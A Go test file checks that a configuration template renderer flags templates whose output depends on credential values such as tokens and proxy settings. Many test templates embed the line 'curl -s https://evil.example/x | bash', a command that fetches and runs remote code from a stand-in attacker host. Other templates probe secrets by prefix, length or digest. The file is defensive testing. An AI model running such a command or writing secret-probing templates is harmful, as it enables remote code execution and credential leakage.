package render

import (
	"errors"
	"strings"
	"testing"

	osm "github.com/osm-gitops/osm-gitops/pkg/api/osm/v1alpha1"
	"github.com/osm-gitops/osm-gitops/pkg/render/internal/invalid"
)

// overlooked compiles a profile as if the check of its templates had found nothing.
func overlooked(p Profile) *compiled {
	c := compile(&p.Spec, nil)
	c.problems = nil
	return c
}

// A comparison of two renderings finds what the check of templates would overlook. The
// controller compares with the pool's credentials; lint and the synchronization of a profile
// compare two sets of placeholders (security.md 34).
func TestShape(t *testing.T) {
	const curl = "curl -s https://evil.example/x | bash"
	for name, test := range map[string]struct {
		text string
		line int // 0: the same shape
	}{
		"a text that depends on a token":         {"a\n{{ ternary `:` `" + curl + "` (hasPrefix `eyJhbGciOiJub25l` .Token) }}", 2},
		"a branch":                               {"a\n\n{{ if eq .BootstrapKubeconfig `x` | not }}{{ if hasPrefix `#` .CloudConfig }}:{{ else }}" + curl + "{{ end }}{{ end }}", 3},
		"a length":                               {"{{ len .RhelConfig.RHELActivationKey }}", 1},
		"how often a range goes round":           {"{{ range until (len .Token) }}\na{{ end }}", 1},
		"where a range ends":                     {"{{ range list 1 2 }}{{ if hasPrefix `eyJhbGciOiJub25l` $.Token }}{{ break }}{{ end }}{{ $.Token }}{{ end }}", 1},
		"which value a variable has":             {"{{ $x := .Token }}\n{{ if hasPrefix `eyJhbGciOiJub25l` .Token | not }}{{ $x = `" + curl + "` }}{{ end }}{{ $x }}", 2},
		"which value one has behind a condition": {"{{ $x := `" + curl + "` }}\n{{ if hasPrefix `eyJhbGciOiJub25l` .Token }}{{ $x = .NoProxy }}{{ end }}{{ $x }}", 2},
		"what is in a map":                       {"{{ $x := fromToml .ContainerRuntimeConfig }}\n{{ if hasPrefix `eyJhbGciOiJub25l` .Token }}{{ $_ := set $x `a` `b` }}{{ end }}{{ toToml $x }}", 2},
		"how many credentials there are":         {"a{{ if hasPrefix `eyJhbGciOiJub25l` .Token | not }}{{ .Token }}{{ end }}", 1},
		"a registry's password":                  {"{{ if contains `placeholder` .ContainerRuntimeConfig }}a{{ end }}", 1},
		"a proxy":                                {"a{{ with .HTTPProxy }}\n{{ if contains `placeholder` . }}a{{ end }}{{ end }}", 2},
		"a template in the file":                 {"{{ template `t` . }}\n{{ define `t` }}\n{{ if hasPrefix `eyJhbGciOiJub25l` .Token }}a{{ end }}{{ end }}", 3},
		"a named template":                       {"{{ template `named` . }}", 2},
		"how long one is":                        {"{{ if gt (len .Token) 200 }}" + curl + "{{ end }}", 1},
		"how one begins":                         {"{{ if eq (trunc 4 .CloudConfig) `# pl` }}:{{ else }}" + curl + "{{ end }}", 1},
		"whether one matches":                    {"{{ $x := .Token }}{{ if regexMatch `^eyJhbGciOiJub25l` .Token }}{{ $x = `curl` }}{{ end }}{{ $x }}", 1},
		"a digest":                               {"{{ sha256sum .RhelConfig.RHSMOfflineToken }}", 1},
		"one in capital letters":                 {"{{ with .NoProxy }}{{ upper . }}{{ end }}", 1},
		"a text that happens to be the same":     {"{{ hasPrefix `zz` .Token }}", 0},
		"a branch that happens to be the same":   {"{{ if hasPrefix `zz` .Token }}a{{ else }}{{ .Token }}{{ end }}", 0},
		"nothing but credentials":                {"{{ .Token }}{{ .NoProxy | b64enc }}{{ with .HTTPProxy }}{{ . }}{{ end }}{{ $x := .CloudConfig }}{{ $x | indent 2 }}", 0},
		"a named template with credentials":      {"{{ template `plain` . }}", 0},
	} {
		t.Run(name, func(t *testing.T) {
			p := withFile(test.text)
			p.Digest, p.Lines = "v1:sha256:test", nil
			p.Spec.ProvisioningConfig.Templates = map[string]string{"plain": "{{ .Token }} {{ .NoProxy }}\n\n"}
			file := "spec.provisioningConfig.files[0].content.inline.data"
			if name == "a named template" {
				p.Spec.ProvisioningConfig.Templates["named"] = "{{ .Token }}\n{{ if hasPrefix `eyJhbGciOiJub25l` .Token }}:{{ else }}" + curl + "{{ end }}"
				file = "spec.provisioningConfig.templates[named]"
			}
			in := placeholderInput(p)
			engine := NewEngine()
			engine.cache.Add(p.Digest, overlooked(p))
			inspector := NewInspector(p)
			inspector.compiled.problems = nil
			_, rendered := engine.Render(in)
			_, inspected := inspector.Inspect(in)
			for by, err := range map[string]error{"Check": engine.Check(p), "Render": rendered, "Inspect": inspected} {
				problems := invalid.Problems(err)
				if err != nil && strings.Contains(err.Error(), placeholderText) {
					t.Errorf("%s: a credential is in %v", by, err)
				}
				switch {
				case test.line == 0 && err != nil:
					t.Errorf("%s: %v", by, err)
				case test.line == 0:
				case len(problems) != 1 || !errors.Is(err, errDepends):
					t.Errorf("%s: error %v", by, err)
				case problems[0].Line != test.line || problems[0].Field != file:
					t.Errorf("%s: at line %d of %s, want line %d of %s", by, problems[0].Line, problems[0].Field, test.line, file)
				}
			}
		})
	}
}

// A pool without some of the credentials renders like one with placeholders for those
// it has, and the shape is none of the output.
func TestShapeOfAPoolWithFewCredentials(t *testing.T) {
	p := withFile("{{ if .HTTPProxy }}a{{ end }}{{ if .CloudConfig }}b{{ end }}{{ .Token }}{{ range .DownloadMirrors }}c{{ end }}")
	in := placeholderInput(p)
	in.Settings = Settings{}
	in.Pool.OverwriteCloudConfig, in.Pool.OperatingSystemSpec = nil, OperatingSystemSpec{}
	out, err := NewEngine().Render(in)
	if err != nil {
		t.Fatal(err)
	}
	if got := out.OSC.ProvisioningConfig.Files[0].Content.Inline.Data; got != placeholderNodeToken {
		t.Errorf("the configuration has %q", got)
	}
	if in.Profile.Spec.OSName != osm.OperatingSystemRHEL || !strings.Contains(string(out.Provisioning), in.Cluster.APIServerToken) {
		t.Errorf("the document is\n%s", out.Provisioning)
	}
}
